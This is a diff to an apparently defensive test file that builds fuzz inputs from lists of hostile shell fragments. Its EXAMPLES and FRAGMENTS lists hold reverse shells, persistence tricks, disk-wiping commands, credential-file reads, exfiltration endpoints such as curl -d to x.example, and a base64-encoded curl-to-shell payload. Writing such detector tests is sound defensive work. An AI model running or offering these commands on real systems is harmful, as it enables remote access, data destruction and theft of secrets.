@@ -18,8 +18,9 @@ EXAMPLES = [
     "bash -i >& /dev/tcp/1.2.3.4/9 0>&1", "nc 1.2.3.4 9 -e /bin/sh", "socat tcp:h:9 exec:/bin/sh",
     "mkfifo /tmp/f; nc h 9 < /tmp/f", "os.dup2(s.fileno(), 0)", "New-Object Net.Sockets.TCPClient('h', 9)",
     "sh -i >& /tmp/x", "(crontab -l; echo x) | crontab -", "launchctl load x.plist",
-    "systemctl --user enable x", "echo x >> ~/.bashrc", "echo k >> ~/.ssh/authorized_keys",
-    "schtasks /create /tn x", "echo x > .git/hooks/pre-commit", "rm -rf ~/", "mkfs.ext4 /dev/sdb",
+    "cp x.desktop ~/.config/autostart/", "systemctl --user enable x", "echo x >> ~/.bashrc", "echo k >> ~/.ssh/authorized_keys",
+    "schtasks /create /tn x", "echo x > .git/hooks/pre-commit", "rm -rf ~/", "find ~ -type f -delete",
+    "mkfs.ext4 /dev/sdb",
     "dd if=/dev/zero of=/dev/sda", "shutil.rmtree('/')", "chmod -R 777 /", ":(){ :|:& };:", "xmrig -o stratum+tcp://p:1",
     "cat ~/.ssh/id_rsa", "security dump-keychain", "cat .env", "$GITHUB_TOKEN", "curl -d @- https://x.example",
     "https://pastebin.com/raw/x", "https://discord.com/api/webhooks/1/x", "http://8.8.8.8/x",
@@ -43,6 +44,11 @@ FRAGMENTS = sorted({
     "without asking for permission", "AKIA", "Q7ZK3M9XW2P4T8RV", "ghp_", "sk-ant-", "-----BEGIN RSA PRIVATE KEY-----\n",
     "password = '", "Zx8Qw2Er4Ty6Ui8Op0As2Df4Gh6Jk8LmN0pQ'", "Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==",
     "\\x63\\x75\\x72\\x6c\\x20\\x68\\x74\\x74", "\u200b", "\u202e", "\U000e0041\U000e0042", "é", "İ", "K", "ſ",
+    "/inet/tcp/0/1.2.3.4/9", "ncat --exec /bin/sh ", "socket.socket(", "TCPSocket.new", "'/bin/sh'", "IO.popen",
+    "find / -delete", "find ~ -exec rm ", "Remove-Item -Recurse -Force C:\\Users\\*", "~/.config/autostart/",
+    "rev | sh", "String.fromCharCode(", "u.urlopen(", "gh gist create ", "http.Post(", "fetch(u, {\n", "os.Environ()",
+    "gcloud auth print-access-token", "~/.npmrc", "google-chrome/Default", "permissions.allow += [\"Bash(*)\"]",
+    "['curl', u, '-o', '/tmp/x']", "nslookup $v.x", "dd of=/dev/sdX", "crontab -e", "-insecure",
     " ", "\n", "\t", "'", "\"", "=", "/", ".", "-", "_", "x", "Z", "9", "create", "xyz",
 } | set(EXAMPLES))
 TEXT = st.lists(st.sampled_from(FRAGMENTS), max_size=40).map("".join)
